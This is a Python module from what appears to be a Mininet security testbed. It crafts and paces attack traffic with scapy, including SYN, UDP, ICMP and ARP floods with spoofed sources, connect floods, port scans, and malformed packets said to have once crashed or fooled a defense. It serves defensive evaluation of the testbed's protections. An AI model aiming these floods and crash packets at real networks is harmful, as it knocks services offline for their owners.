"""Traffic anomalies crafted with scapy and sent at a paced rate from inside an attacker host.

Packets are built once by :func:`build_packets` (pure, testable without sending), turned into
bytes, and replayed through scapy's layer-2 socket at ``rate_pps``, so the sender's cost is a
system call per packet, not a scapy build. The process runs in the attacker's Mininet host::

    python -m attacks.traffic --iface d1h1-eth0 --spec SPEC_JSON --duration 60 --report FILE

and stops at ``--duration`` or on SIGTERM (the runner ends it on schedule), appending one JSON
line with what it sent to ``FILE``.
"""

from __future__ import annotations

import argparse
import json
import signal
import socket
import sys
import threading
import time
from collections.abc import Callable
import dataclasses
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

from attacks.kinds import TrafficKind
from common.description import HostSpec
from common.schema import Field, ScenarioError, between, non_negative, one_of, strings

SEGMENT_BYTES = 1400
"""Payload per TCP segment of a crafted model frame (within the hosts' 1500-byte MTU)."""
CRAFTED_COPIES = 4
"""Each crafted model frame goes out on this many connections (source ports): evidence for each."""
DISCARD_PORT = 9
MAX_DISTINCT_PACKETS = 4096
"""Packets built up front; a flood cycles through them (a scan covers its ports in order)."""
SPOOF_NETWORK = (10 << 24, 1 << 24)
"""Spoofed sources are drawn from 10.0.0.0/8, addresses that look like the testbed's own."""
CRAFTED = ("tcp-zero-length-option", "vxlan", "tcp-179", "tcp-6653", "vlan-100", "vlan-0", "empty-model-frame",
           "far-round-model-frame")
"""Single packets that hung, crashed or fooled a domain's defense once (issue 15): a SYN with a
zero-length TCP option, 8 bytes to VXLAN's port, payloads to BGP's and OpenFlow's ports,
802.1Q-tagged IPv4, a model frame with no tensors (to an address no host has) and one claiming
round 4,000,000,000."""


@dataclass(frozen=True)
class TrafficSpec:
    """Everything one attacker process needs: who sends what to whom, how fast, and the kind's
    own keys (``params``, resolved by the plan)."""

    kind: str
    src_mac: str
    src_ip: str
    dst_mac: str
    dst_ip: str
    rate_pps: float
    seed: int = 0
    params: dict = field(default_factory=dict)
    sender: str = ""
    shapes: tuple[tuple[int, ...], ...] = ()
    """The run's model shapes: a crafted model frame is otherwise a real one."""

    @classmethod
    def from_attack(cls, kind: str, params: dict, attacker: HostSpec, victim: HostSpec, seed: int,
                    shapes: tuple[tuple[int, ...], ...] = ()) -> TrafficSpec:
        """A spec from a resolved attack's params and the two hosts of the description."""
        own = {k: v for k, v in params.items() if k not in ("target", "rate_pps", "low_rate")}
        return cls(kind, attacker.mac, attacker.ip, victim.mac, victim.ip, params["rate_pps"], seed, own,
                   attacker.name, tuple(tuple(s) for s in shapes))

    def to_json(self) -> str:
        return json.dumps(dataclasses.asdict(self))

    @classmethod
    def from_json(cls, text: str) -> TrafficSpec:
        fields = json.loads(text)
        return cls(**{**fields, "shapes": tuple(tuple(s) for s in fields.get("shapes", ()))})


def _random_ip(rng: np.random.Generator) -> str:
    value = SPOOF_NETWORK[0] + int(rng.integers(1, SPOOF_NETWORK[1] - 1))
    return ".".join(str((value >> shift) & 0xFF) for shift in (24, 16, 8, 0))


def _ip_flood(spec: TrafficSpec, count: int, layer4, with_payload: bool = False) -> list:
    """``count`` IPv4 packets from the attacker (or, with ``spoof``, random 10/8 sources) to the
    victim, each carrying ``layer4(i, rng, source_port)`` (and ``payload_bytes`` of noise)."""
    from scapy.layers.inet import IP
    from scapy.layers.l2 import Ether
    from scapy.packet import Raw

    rng = np.random.default_rng([spec.seed, 0x7AFF1C])
    size = spec.params["payload_bytes"] if with_payload else 0
    payload = Raw(bytes(rng.integers(0, 256, size, dtype=np.uint8))) if size else None
    source_port = int(rng.integers(1024, 65536))
    packets = []
    for i in range(count):
        source = _random_ip(rng) if spec.params.get("spoof") else spec.src_ip
        packet = Ether(src=spec.src_mac, dst=spec.dst_mac) / IP(src=source, dst=spec.dst_ip, id=i & 0xFFFF)
        packet = packet / layer4(i, rng, source_port)
        packets.append(packet / payload if payload is not None else packet)
    return packets


def _syn_flood(spec: TrafficSpec, count: int | None = None) -> list:
    """Every SYN a new half-open connection: random source port and sequence number."""
    from scapy.layers.inet import TCP

    return _ip_flood(spec, count or 256, lambda i, rng, _port: TCP(
        sport=int(rng.integers(1024, 65536)), dport=spec.params["dst_port"], flags="S",
        seq=int(rng.integers(0, 2**32))))


def _udp_flood(spec: TrafficSpec, count: int | None = None) -> list:
    """One fat flow to the discard port (one packet per spoofed source with ``spoof``)."""
    from scapy.layers.inet import UDP

    return _ip_flood(spec, count or (256 if spec.params.get("spoof") else 1),
                     lambda i, rng, port: UDP(sport=port, dport=DISCARD_PORT), with_payload=True)


def _icmp_flood(spec: TrafficSpec, count: int | None = None) -> list:
    """Echo requests with rising sequence numbers (or echo replies nobody asked for)."""
    from scapy.layers.inet import ICMP

    return _ip_flood(spec, count or 256, lambda i, rng, port: ICMP(type=spec.params["icmp_type"], id=port,
                                                                   seq=i & 0xFFFF), with_payload=True)


def _port_scan(spec: TrafficSpec, count: int | None = None) -> list:
    """One SYN per port, in order."""
    from scapy.layers.inet import TCP

    ports = list(range(spec.params["first_port"], spec.params["last_port"] + 1))[:MAX_DISTINCT_PACKETS]
    return _ip_flood(spec, count or len(ports), lambda i, rng, port: TCP(
        sport=port, dport=ports[i % len(ports)], flags="S", seq=int(rng.integers(0, 2**32))))


def _arp_flood(spec: TrafficSpec, count: int | None = None) -> list:
    """Requests in the sender's own name, for every address of the victim's subnet."""
    from scapy.layers.l2 import ARP, Ether

    subnet = spec.dst_ip.rsplit(".", 1)[0]
    return [Ether(src=spec.src_mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=spec.src_mac, psrc=spec.src_ip,
                                                                    pdst=f"{subnet}.{1 + i % 254}")
            for i in range(count or 256)]


def _crafted(spec: TrafficSpec, count: int | None = None) -> list:
    """Every attempt's first copy, then every attempt's second, ...: each attempt is on the wire
    before a repeat of another can bring the ban that cuts the sender off."""
    attempts = [crafted_packets(spec, name) for name in spec.params["packets"]]
    return [packet for copy in range(max(map(len, attempts))) for copies in attempts if copy < len(copies)
            for packet in copies[copy]]


def crafted_packets(spec: TrafficSpec, name: str) -> list[list]:
    """The copies of one crafted attempt (see :data:`CRAFTED`), each a list of packets."""
    from scapy.layers.inet import IP, TCP, UDP
    from scapy.layers.l2 import Dot1Q, Ether
    from scapy.packet import Raw

    from agents.wire import ModelFrame, encode

    ether = Ether(src=spec.src_mac, dst=spec.dst_mac)
    ip = IP(src=spec.src_ip, dst=spec.dst_ip)
    port = spec.params["dst_port"]
    if name == "tcp-zero-length-option":
        syn = bytearray(bytes(ether / ip / TCP(sport=40001, dport=port, flags="S", options=[(99, b"")])))
        syn[-3] = 0  # option 99's length byte: zero, which no length-driven parser may loop on
        return [[bytes(syn)]]
    if name == "vxlan":
        return [[ether / ip / UDP(sport=40002, dport=4789) / Raw(b"\x01" * 8)]]
    if name in ("tcp-179", "tcp-6653"):
        return [[ether / ip / TCP(sport=40003, dport=int(name[4:]), flags="PA") / Raw(b"\xff" * 19 + b"\x04" * 21)]]
    if name in ("vlan-100", "vlan-0"):
        return [[ether / Dot1Q(vlan=int(name[5:])) / ip / UDP(sport=40004, dport=9) / Raw(b"tagged")]]
    if name == "empty-model-frame":
        frame, ip = ModelFrame(spec.sender, 1, 10, ()), IP(src=spec.src_ip, dst=spec.dst_ip.rsplit(".", 1)[0] + ".250")
    else:
        frame = ModelFrame(spec.sender, 4_000_000_000, 10, tuple(np.zeros(s, np.float32) for s in spec.shapes))
    data = encode(frame)
    return [[ether / ip / TCP(sport=41000 + copy, dport=port, seq=1 + at, flags="PA") / Raw(data[at:at + SEGMENT_BYTES])
             for at in range(0, len(data), SEGMENT_BYTES)] for copy in range(CRAFTED_COPIES)]


def _check_ports(entry: dict, where: str) -> None:
    if entry["last_port"] < entry["first_port"]:
        raise ScenarioError(f"{where}: last_port is below first_port")


def _check_crafted(entry: dict, where: str) -> None:
    unknown = [p for p in entry["packets"] if p not in CRAFTED]
    if unknown or not entry["packets"]:
        raise ScenarioError(f"{where}.packets must list some of {', '.join(CRAFTED)}"
                            + (f"; unknown: {unknown[0]!r}" if unknown else ""))


_AIM = {
    "target": Field(str, "", help="victim host (empty: a seeded honest node, in another domain if any)"),
    "rate_pps": Field(float, 0.0, non_negative, "packets per second (0 = the kind's default)"),
    "low_rate": Field(bool, False, help="the low-rate variant: the default rate divided by 100"),
}
_SPOOF = {"spoof": Field(bool, False, help="random source addresses in 10.0.0.0/8")}
_AGENTS_PORT = {"dst_port": Field(int, 0, between(0, 65535), "TCP port (0 = the agents' port)")}

TRAFFIC_KINDS = (
    TrafficKind("syn-flood", fields={**_AIM, **_SPOOF, **_AGENTS_PORT}, default_rate_pps=5000.0,
                packets=_syn_flood, to_agents_port=True, help="half-open connections"),
    TrafficKind("udp-flood", fields={**_AIM, **_SPOOF, "payload_bytes": Field(int, 1200, between(0, 1472))},
                default_rate_pps=8000.0, packets=_udp_flood, help="datagrams to the discard port"),
    TrafficKind("icmp-flood", default_rate_pps=5000.0, packets=_icmp_flood, help="pings, or unasked replies",
                fields={**_AIM, **_SPOOF, "payload_bytes": Field(int, 1000, between(0, 1472)),
                        "icmp_type": Field(int, 8, one_of(0, 8),
                                           "8: echo requests; 0: echo replies no one asked for")}),
    TrafficKind("arp-flood", fields=dict(_AIM), default_rate_pps=20000.0, packets=_arp_flood,
                help="ARP requests for the victim's whole subnet"),
    TrafficKind("connect-flood", fields={**_AIM, **_AGENTS_PORT}, default_rate_pps=40.0, connects=True,
                to_agents_port=True, help="real TCP connections, opened and closed"),
    TrafficKind("crafted", default_rate_pps=20.0, packets=_crafted, to_agents_port=True, check=_check_crafted,
                help="packets that once broke the defense",
                fields={**_AIM, "packets": Field(list, [], strings, "crafted packets to send in turn (see CRAFTED)"),
                        "dst_port": Field(int, 0, between(0, 65535),
                                          "TCP port of the crafted model frames (0 = the agents' port)")}),
    TrafficKind("port-scan", default_rate_pps=300.0, packets=_port_scan, check=_check_ports, help="a SYN per port",
                fields={**_AIM, "first_port": Field(int, 1, between(1, 65535)),
                        "last_port": Field(int, 1024, between(1, 65535))}),
)
_BY_NAME = {kind.name: kind for kind in TRAFFIC_KINDS}


def build_packets(spec: TrafficSpec, count: int | None = None) -> list:
    """The packets the attack cycles through (deterministic under ``spec.seed``)."""
    kind = _BY_NAME.get(spec.kind)
    if kind is None:
        raise ValueError(f"unknown traffic attack {spec.kind!r}; known: {', '.join(_BY_NAME)}")
    if kind.packets is None:
        raise ValueError(f"a {spec.kind} opens real connections: it has no packets to build")
    return kind.packets(spec, count)


@dataclass
class SendReport:
    packets: int = 0
    bytes: int = 0
    started: float = 0.0
    stopped: float = 0.0


def send_paced(send: Callable[[bytes], object], frames: list[bytes], rate_pps: float, duration_s: float,
               stop: threading.Event, clock: Callable[[], float] = time.monotonic,
               sleep: Callable[[float], None] = time.sleep) -> SendReport:
    """Send ``frames`` in a cycle at ``rate_pps`` until ``duration_s`` passed or ``stop`` is set.

    Pacing is by schedule, not by sleeping a fixed gap: after a stall the sender catches up at
    most one burst (``rate/100`` packets), so the long-run rate is the asked one.
    """
    report = SendReport(started=time.time())
    began = clock()
    burst = max(1, int(rate_pps / 100))
    index = 0
    while not stop.is_set():
        elapsed = clock() - began
        if elapsed >= duration_s:
            break
        due = min(int(elapsed * rate_pps) + 1 - report.packets, burst)
        if due <= 0:
            sleep(min(0.01, (report.packets - elapsed * rate_pps) / rate_pps))
            continue
        for _ in range(due):
            frame = frames[index % len(frames)]
            send(frame)
            index += 1
            report.packets += 1
            report.bytes += len(frame)
    report.stopped = time.time()
    return report


def connect_once(ip: str, port: int) -> None:
    """One plain TCP connect that is closed at once (the victim's answers are replies)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(0.2)
        try:
            sock.connect((ip, port))
        except OSError:
            pass


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="attacks.traffic", description=__doc__.splitlines()[0])
    parser.add_argument("--iface", required=True, help="the attacker host's interface")
    parser.add_argument("--spec", required=True, help="TrafficSpec as JSON")
    parser.add_argument("--duration", type=float, required=True, help="upper bound on seconds of sending")
    parser.add_argument("--report", type=Path, required=True, help="JSON-lines file to append the totals to")
    args = parser.parse_args(argv)
    try:
        spec = TrafficSpec.from_json(args.spec)
    except (TypeError, ValueError) as error:
        parser.error(f"--spec: {error}")
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    if spec.kind in _BY_NAME and _BY_NAME[spec.kind].connects:
        report = send_paced(lambda _: connect_once(spec.dst_ip, spec.params["dst_port"]), [b""], spec.rate_pps,
                            args.duration, stop)
    else:
        from scapy.config import conf

        frames = [bytes(p) for p in build_packets(spec)]
        sock = conf.L2socket(iface=args.iface)
        try:
            report = send_paced(sock.send, frames, spec.rate_pps, args.duration, stop)
        finally:
            sock.close()
    from common.events import Event, event
    from common.jsonl import JsonLinesWriter

    with JsonLinesWriter(args.report) as out:
        out.write(event(Event.TRAFFIC_SENT, time.time(), kind=spec.kind, src_ip=spec.src_ip, dst_ip=spec.dst_ip,
                        rate_pps=spec.rate_pps, **vars(report)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
